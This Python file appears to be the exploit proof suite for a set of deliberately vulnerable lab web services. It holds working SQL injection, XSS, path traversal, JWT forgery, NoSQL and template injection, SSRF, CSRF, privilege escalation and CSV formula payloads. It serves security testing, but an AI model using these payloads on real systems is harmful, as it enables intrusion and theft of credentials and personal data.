"""The exploits for the seventh set: one for each weakness, by service and name."""

import base64
import csv
import hashlib
import hmac
import io
import json
import re

import common
from third_proofs import called, proof, sign_in

PASSWORD = {name: entry["password"] for name, entry in common.ACCOUNTS.items()}
NEWCOMER = {"username": "dora.fern", "email": "dora@west.example", "password": "willow-Meadow-26"}
MARKUP = "<img src=x onerror=alert(1)>"


def sealed(header, claims, key):
    """A JWT that is signed by HMAC with this key."""
    parts = [base64.urlsafe_b64encode(json.dumps(part).encode()).rstrip(b"=") for part in (header, claims)]
    content = b".".join(parts)
    signature = base64.urlsafe_b64encode(hmac.new(key, content, hashlib.sha256).digest()).rstrip(b"=")
    return (content + b"." + signature).decode()


def claims_of(token):
    """What a JWT holds."""
    body = token.split(".")[1]
    return json.loads(base64.urlsafe_b64decode(body + "=" * (-len(body) % 4)))


# larder -----------------------------------------------------------------------------------------------------------------------------------


def larder_entry(client, name, password=None, headers=None):
    return client.post("/rest/user/login", json={"username": name, "password": password or PASSWORD[name]}, headers=headers)


def larder_basket(client, caller):
    return client.get("/rest/user/whoami", headers=caller).json()["basket"]


@sign_in("larder")
def _(client, name):
    return {"Authorization": "Bearer " + larder_entry(client, name).json()["authentication"]["token"]}


@proof("larder", "search-union")
def _(client):
    assert client.get("/rest/products/search", params={"q": "jam"}).json()["data"][0]["name"] == "Plum jam"
    answer = client.get("/rest/products/search", params={"q": "none%') AND listed = 1) UNION SELECT 1, username, card, 2 FROM customers --"})
    return "4929 " in answer.text and "olga" in answer.text


@proof("larder", "review-markup")
def _(client):
    answer = client.post("/rest/products/2/reviews", json={"message": MARKUP, "rating": 3}, headers=client.as_("ann"))
    assert answer.status_code == 201
    page = client.get("/products/2")
    assert "Rye loaf" in page.text
    return MARKUP in page.text and "unsafe-inline" in page.headers["content-security-policy"]


@proof("larder", "review-author")
def _(client):
    answer = client.post("/rest/products/2/reviews", json={"message": "Stale", "rating": 1, "author": "ben"}, headers=client.as_("ann"))
    assert answer.status_code == 201
    return [entry["author"] for entry in client.get("/rest/products/2/reviews").json()["data"]] == ["ben"]


@proof("larder", "basket-read")
def _(client):
    ann, ben = client.as_("ann"), client.as_("ben")
    number = larder_basket(client, ann)
    assert client.get(f"/rest/basket/{number}", headers=ann).json()["owner"] == "ann"
    return client.get(f"/rest/basket/{number}", headers=ben).json().get("owner") == "ann"


@proof("larder", "quantity-negative")
def _(client):
    ann = client.as_("ann")
    number = larder_basket(client, ann)
    before = client.get("/rest/wallet", headers=ann).json()["balance"]
    item = client.get(f"/rest/basket/{number}", headers=ann).json()["items"][0]["id"]
    assert client.post("/api/basket-items", json={"basketId": number, "productId": 1, "quantity": -5}, headers=ann).status_code == 422
    client.put(f"/api/basket-items/{item}", json={"quantity": -50}, headers=ann)
    assert client.post(f"/rest/basket/{number}/checkout", json={"street": "Mill Lane 4"}, headers=ann).status_code == 201
    return client.get("/rest/wallet", headers=ann).json()["balance"] > before


@proof("larder", "coupon-again")
def _(client):
    ann = client.as_("ann")
    path = f"/rest/basket/{larder_basket(client, ann)}/coupon"
    assert client.post(path, json={"code": "HARVEST15"}, headers=ann).json()["discount"] == 15
    for _ in range(3):
        client.post(path, json={"code": "HARVEST15"}, headers=ann)
    return client.get(path.removesuffix("/coupon"), headers=ann).json()["discount"] == 60


@proof("larder", "register-role")
def _(client):
    assert client.get("/api/users", headers=client.as_("ann")).status_code == 403
    assert client.post("/api/users", json=NEWCOMER | {"role": "admin"}).status_code == 201
    caller = {"Authorization": "Bearer " + larder_entry(client, NEWCOMER["username"], NEWCOMER["password"]).json()["authentication"]["token"]}
    return client.get("/api/users", headers=caller).status_code == 200


@proof("larder", "downloads-strip")
def _(client):
    assert "Terms" in client.get("/downloads", params={"file": "terms.md"}).text
    assert "root:x" not in client.get("/downloads", params={"file": "../../../etc/passwd"}).text
    return "root:x" in client.get("/downloads", params={"file": "....//....//....//etc/passwd"}).text


@proof("larder", "avatar-url")
def _(client):
    ann = client.as_("ann")
    with called() as (url, requests, _):
        client.put("/rest/user/avatar", json={"imageUrl": url}, headers=ann)
        return len(requests) == 1 and client.get("/rest/user/avatar", headers=ann).text == "inner"


@proof("larder", "token-confusion")
def _(client):
    claims = claims_of(client.as_("ann")["Authorization"])
    key = client.get("/rest/keys/jwt.pub").content
    forged = sealed({"alg": "HS256", "typ": "JWT"}, claims | {"sub": "olga"}, key)
    return client.get("/api/users", headers={"Authorization": f"Bearer {forged}"}).status_code == 200


@proof("larder", "login-forwarded")
def _(client):
    statuses = [larder_entry(client, "ben", f"wrong-{number}", {"X-Forwarded-For": f"10.1.0.{number}"}).status_code for number in range(25)]
    return set(statuses) == {401} and larder_entry(client, "ben").status_code == 200


@proof("larder", "redirect-contains")
def _(client):
    assert client.get("/redirect", params={"to": "https://pay.larder.example/start"}).status_code == 302
    assert client.get("/redirect", params={"to": "https://elsewhere.example/"}).status_code == 406
    answer = client.get("/redirect", params={"to": "https://elsewhere.example/?from=https://pay.larder.example/"})
    return answer.headers.get("location", "").startswith("https://elsewhere.example/")


# vanclub ----------------------------------------------------------------------------------------------------------------------------------


def vanclub_credit(client, caller):
    return client.get("/shop/credit", headers=caller).json()["credit"]


@sign_in("vanclub")
def _(client, name):
    return {"Authorization": "Bearer " + client.post("/accounts/login", json={"username": name, "password": PASSWORD[name]}).json()["token"]}


@proof("vanclub", "reset-old")
def _(client):
    assert client.post("/accounts/forgot", json={"email": "ben@south.example"}).status_code == 202
    body = {"email": "ben@south.example", "otp": "none", "password": "aspen-Teapot-37"}
    return {client.post("/accounts/v2/reset", json=body).status_code for _ in range(60)} == {400} and client.post("/accounts/v3/reset", json=body).status_code == 429


@proof("vanclub", "forgot-tells")
def _(client):
    known, unknown = (client.post("/accounts/forgot", json={"email": email}) for email in ("ben@south.example", "nobody@south.example"))
    assert known.status_code == 202
    return known.text != unknown.text


@proof("vanclub", "token-kid")
def _(client):
    claims = claims_of(client.as_("ann")["Authorization"])
    forged = sealed({"alg": "HS256", "typ": "JWT", "kid": "../../../dev/null"}, claims | {"sub": "olga"}, b"")
    return client.get("/admin/members", headers={"Authorization": f"Bearer {forged}"}).status_code == 200


@proof("vanclub", "van-location")
def _(client):
    ann = client.as_("ann")
    path = f"/vans/{client.get('/vans', headers=ann).json()[0]['id']}/location"
    assert client.get(path, headers=ann).json()["driver"] == "ann"
    return "latitude" in client.get(path, headers=client.as_("ben")).json()


@proof("vanclub", "posts-author")
def _(client):
    posts = client.get("/board/posts", headers=client.as_("ben")).json()
    assert "Greetings from ann" in [post["title"] for post in posts]
    return any("ann@north.example" in json.dumps(post["author"]) for post in posts)


@proof("vanclub", "coupon-operator")
def _(client):
    answer = client.post("/shop/coupons/check", json={"coupon_code": {"$ne": None}}, headers=client.as_("ann"))
    return answer.json().get("amount") == 75


@proof("vanclub", "report-read")
def _(client):
    ann, ben = client.as_("ann"), client.as_("ben")
    path = f"/workshop/reports/{client.get('/workshop/reports', headers=ann).json()[0]['id']}"
    assert client.get(path, headers=ann).status_code == 200
    return "brakes of ann" in client.get(path, headers=ben).text


@proof("vanclub", "mechanic-api")
def _(client):
    ann = client.as_("ann")
    body = {"van_id": client.get("/vans", headers=ann).json()[0]["id"], "mechanic_code": "MECH-KIT", "problem": "it squeaks"}
    with called() as (url, requests, _):
        answer = client.post("/workshop/reports", json=body | {"mechanic_api": url}, headers=ann)
        return len(requests) == 1 and answer.json()["response_from_mechanic"]["body"] == "inner"


@proof("vanclub", "order-negative")
def _(client):
    ann = client.as_("ann")
    before = vanclub_credit(client, ann)
    client.post("/shop/orders", json={"product_id": 1, "quantity": -10}, headers=ann)
    return vanclub_credit(client, ann) == before + 800


@proof("vanclub", "order-anonymous")
def _(client):
    path = f"/shop/orders/{client.listed('/shop/orders', 'ann')}"
    assert client.get("/shop/orders").status_code == 401
    return "ann@north.example" in client.get(path).text


@proof("vanclub", "order-status")
def _(client):
    ann = client.as_("ann")
    path, before = f"/shop/orders/{client.listed('/shop/orders', 'ann')}", vanclub_credit(client, ann)
    assert client.put(path, json={"quantity": 2, "status": "returned"}, headers=ann).status_code == 200
    return vanclub_credit(client, ann) == before + 30


@proof("vanclub", "moderate-open")
def _(client):
    ann = client.as_("ann")
    post = next(post["id"] for post in client.get("/board/posts", headers=ann).json() if "olga" in post["title"])
    assert client.delete(f"/board/posts/{post}", headers=ann).status_code == 404
    return client.delete(f"/admin/posts/{post}", headers=ann).status_code == 204 and client.get(f"/board/posts/{post}", headers=ann).status_code == 404


# scraps -----------------------------------------------------------------------------------------------------------------------------------

LOGIN = "mutation($username: String!, $password: String!) {login(username: $username, password: $password) {token}}"
CREATE = "mutation($input: PasteInput!) {createPaste(input: $input) {id}}"


def scraps_draft(client, caller):
    """The id of the caller's draft."""
    return next(paste["id"] for paste in client.ask("{myPastes {id public}}", caller).json()["data"]["myPastes"] if not paste["public"])


@sign_in("scraps")
def _(client, name):
    answer = client.ask(LOGIN, username=name, password=PASSWORD[name])
    client.cookies.clear()
    return {"Authorization": "Bearer " + answer.json()["data"]["login"]["token"]}


@proof("scraps", "import-address")
def _(client):
    with called() as (url, requests, _):
        answer = client.ask('mutation($url: String!) {importPaste(url: $url, title: "inside") {content}}', client.as_("ann"), url=url).json()
        return len(requests) == 1 and answer["data"]["importPaste"]["content"] == "inner"


@proof("scraps", "attachment-path")
def _(client):
    query, ann = "query($name: String!) {attachment(name: $name)}", client.as_("ann")
    assert "kept for a year" in client.ask(query, ann, name="readme.txt").text
    return "root:x" in client.ask(query, ann, name="../../../etc/passwd").text


@proof("scraps", "share-template")
def _(client):
    ann = client.as_("ann")
    query, number = "mutation($id: ID!, $message: String!) {sharePaste(id: $id, message: $message)}", scraps_draft(client, ann)
    assert client.ask(query, ann, id=number, message="{{title}} by {{author}}").json()["data"]["sharePaste"] == "Draft by ann by ann"
    answer = client.ask(query, ann, id=number, message="{{ 1337 * 3 }} {{ settings.signing_key }}").json()["data"]["sharePaste"]
    return answer.startswith("4011 ") and "settings" not in answer


@proof("scraps", "filter-sql")
def _(client):
    query, ann = "query($filter: String!) {pastes(filter: $filter) {title content}}", client.as_("ann")
    assert "Groceries of ben" in client.ask(query, ann, filter="barley").text
    answer = client.ask(query, ann, filter="none') UNION SELECT 99999, email, recovery FROM people --").json()["data"]["pastes"]
    return "olga@office.example" in [paste["title"] for paste in answer]


@proof("scraps", "batch-limit")
def _(client):
    words = [f"wrong-{number}" for number in range(50)]
    batch = [{"query": LOGIN, "variables": {"username": "ben", "password": word}} for word in [*words, PASSWORD["ben"]]]
    assert isinstance(client.post("/graphql", json=batch[:3]).json(), list)
    answers = client.post("/graphql", json=batch).json()
    return isinstance(answers, list) and bool(answers[-1]["data"])


@proof("scraps", "depth-open")
def _(client):
    ann = client.as_("ann")
    assert "errors" not in client.ask("{me {latestPaste {owner {latestPaste {id}}}}}", ann).json()
    query = "{me {" + "latestPaste {owner {" * 30 + "id" + "}}" * 30 + "}}"
    return "errors" not in client.ask(query, ann).json()


@proof("scraps", "private-paste")
def _(client):
    query = "query($id: ID!) {paste(id: $id) {content}}"
    number = scraps_draft(client, client.as_("ann"))
    return "door code of ann" in client.ask(query, client.as_("ben"), id=number).text


@proof("scraps", "edit-foreign")
def _(client):
    ann, ben = client.as_("ann"), client.as_("ben")
    number = scraps_draft(client, ann)
    client.ask('mutation($id: ID!) {editPaste(id: $id, content: "gone") {id}}', ben, id=number)
    assert "no such paste" in client.ask("mutation($id: ID!) {deletePaste(id: $id)}", ben, id=number).text
    return client.ask("query($id: ID!) {paste(id: $id) {content}}", ann, id=number).json()["data"]["paste"]["content"] == "gone"


@proof("scraps", "owner-recovery")
def _(client):
    query = "{pastes {title owner {username email recoveryCode}}}"
    owners = [paste["owner"] for paste in client.ask(query, client.as_("ben")).json()["data"]["pastes"]]
    assert next(owner for owner in owners if owner["username"] == "ben")["recoveryCode"]
    return all(owner["recoveryCode"] and owner["email"] for owner in owners)


@proof("scraps", "get-mutation")
def _(client):
    cookie = client.ask(LOGIN, username="ann", password=PASSWORD["ann"]).headers["set-cookie"]
    assert "samesite=lax" in cookie.lower()
    client.cookies.clear()
    caller = {"Cookie": cookie.partition(";")[0]}
    assert client.get("/graphql", params={"query": "{me {username}}"}, headers=caller).json()["data"]["me"]["username"] == "ann"
    client.get("/graphql", params={"query": 'mutation {createPaste(input: {title: "forged", content: "forged"}) {id}}'}, headers=caller)
    return "forged" in client.ask("{myPastes {title}}", caller).text


@proof("scraps", "audits-open")
def _(client):
    query = "{audits {username field address}}"
    assert "login" in client.ask(query, client.as_("olga")).text
    return "olga" in client.ask(query, client.as_("ann")).text


@proof("scraps", "paste-markup")
def _(client):
    number = client.ask(CREATE, client.as_("ann"), input={"title": "picture", "content": MARKUP, "public": True}).json()["data"]["createPaste"]["id"]
    page = client.get(f"/p/{number}")
    assert "<h1>picture</h1>" in page.text
    return MARKUP in page.text and "unsafe-inline" in page.headers["content-security-policy"]


# perks ------------------------------------------------------------------------------------------------------------------------------------


def perks_entry(client, name, headers=None, **more):
    """The answer of the sign-in; no cookie is kept."""
    answer = client.post("/login", data={"username": name, "password": PASSWORD[name], **more}, headers=headers)
    client.cookies.clear()
    return answer


def cookie_of(answer, name):
    return next(line.partition(";")[0] for line in answer.headers.get_list("set-cookie") if line.startswith(name + "="))


def perks_form(client, caller, path, fields, **more):
    """The answer to a form with its token."""
    token = re.search('name="csrfmiddlewaretoken" value="([^"]+)"', client.get("/account", headers=caller).text)[1]
    client.cookies.clear()
    answer = client.post(path, data=fields | {"csrfmiddlewaretoken": token}, headers=caller, **more)
    client.cookies.clear()
    return answer


def work_number(client, caller):
    return re.search(r"/employees/(\d+)/work-info", client.get("/home", headers=caller).text)[1]


@sign_in("perks")
def _(client, name):
    return {"Cookie": cookie_of(perks_entry(client, name), "perks_session")}


@proof("perks", "work-info-read")
def _(client):
    ann = client.as_("ann")
    path = f"/employees/{work_number(client, ann)}/work-info"
    assert "IBAN" in client.get(path, headers=ann).text
    return "<dd>ann</dd>" in client.get(path, headers=client.as_("ben")).text


@proof("perks", "account-admin")
def _(client):
    ann = client.as_("ann")
    assert client.get("/admin/employees", headers=ann).status_code == 403
    assert perks_form(client, ann, "/account", {"nickname": "Annie", "email": "a@north.example", "phone": "1", "admin": "on"}).status_code == 302
    return client.get("/admin/employees", headers=ann).status_code == 200


@proof("perks", "role-open")
def _(client):
    ann = client.as_("ann")
    assert client.get("/admin/employees", headers=ann).status_code == 403
    perks_form(client, ann, f"/admin/employees/{work_number(client, ann)}/role", {"role": "admin"})
    return client.get("/admin/employees", headers=ann).status_code == 200


@proof("perks", "time-off-forged")
def _(client):
    ann = client.as_("ann")
    assert client.post("/plans", data={"plan": "meals"}, headers=ann | {"Origin": "https://elsewhere.example"}).status_code == 403
    client.post("/time-off", data={"start": "2031-09-01", "days": "30", "reason": "forged"}, headers=ann | {"Origin": "https://elsewhere.example"})
    return "forged" in client.get("/time-off", headers=ann).text and "samesite=none" in perks_entry(client, "ann").headers["set-cookie"].lower()


@proof("perks", "session-kept")
def _(client):
    planted = {"Cookie": cookie_of(client.get("/login"), "perks_session")}
    client.cookies.clear()
    assert client.get("/home", headers=planted).status_code == 302
    assert perks_entry(client, "ann", planted).status_code == 302
    return "Good day, ann" in client.get("/home", headers=planted).text


@proof("perks", "logout-cookie")
def _(client):
    ann = client.as_("ann")
    answer = perks_form(client, ann, "/logout", {})
    assert "perks_session=" in answer.headers["set-cookie"]
    return "Good day, ann" in client.get("/home", headers=ann).text


@proof("perks", "remember-made")
def _(client):
    remembered = cookie_of(perks_entry(client, "ben", remember="on"), "perks_remember")
    assert "Good day, ben" in client.get("/home", headers={"Cookie": remembered}).text
    client.cookies.clear()
    made = base64.urlsafe_b64encode(f"olga:{hashlib.md5(b'olga').hexdigest()}".encode()).decode()
    return client.get("/admin/employees", headers={"Cookie": f"perks_remember={made}"}).status_code == 200


@proof("perks", "next-slashes")
def _(client):
    assert perks_entry(client, "ann", next="/time-off").headers["location"] == "/time-off"
    assert perks_entry(client, "ann", next="https://elsewhere.example/").headers["location"] == "/home"
    return perks_entry(client, "ann", next="//elsewhere.example/").headers["location"] == "//elsewhere.example/"


@proof("perks", "message-markup")
def _(client):
    answer = perks_form(client, client.as_("ann"), "/messages", {"recipient": "ben", "subject": "picture", "body": MARKUP})
    page = client.get(answer.headers["location"], headers=client.as_("ben"))
    assert "<h1>picture</h1>" in page.text
    return MARKUP in page.text and "unsafe-inline" in page.headers["content-security-policy"]


@proof("perks", "directory-order")
def _(client):
    ann = client.as_("ann")
    assert client.get("/directory", params={"sort": "team"}, headers=ann).text != client.get("/directory", params={"sort": "name"}, headers=ann).text
    question = "CASE WHEN (SELECT iban FROM people WHERE username = 'olga') LIKE '{}%' THEN name ELSE team END"
    tables = [client.get("/directory", params={"sort": question.format(letters)}, headers=ann) for letters in ("DE", "FR")]
    return {table.status_code for table in tables} == {200} and tables[0].text != tables[1].text


@proof("perks", "upload-page")
def _(client):
    ann = client.as_("ann")
    text = perks_form(client, ann, "/documents", {"title": "plain"}, files={"file": ("a.txt", b"plain", "text/plain")})
    assert client.get(text.headers["location"], headers=ann).text == "plain"
    answer = perks_form(client, ann, "/documents", {"title": "page"}, files={"file": ("a.html", b"<script>alert(1)</script>", "text/html")})
    page = client.get(answer.headers.get("location", "/home"), headers=client.as_("olga"))
    return page.headers["content-type"].startswith("text/html") and "<script>" in page.text and "attachment" not in page.headers.get("content-disposition", "")


@proof("perks", "export-formula")
def _(client):
    reason = '=HYPERLINK("https://elsewhere.example","x")'
    assert perks_form(client, client.as_("ann"), "/time-off", {"start": "2031-09-01", "days": "2", "reason": reason}).status_code == 302
    rows = list(csv.reader(io.StringIO(client.get("/time-off/export.csv", headers=client.as_("olga")).text)))
    assert any(row[3].endswith(reason) for row in rows)
    return any(row[3] == reason for row in rows)
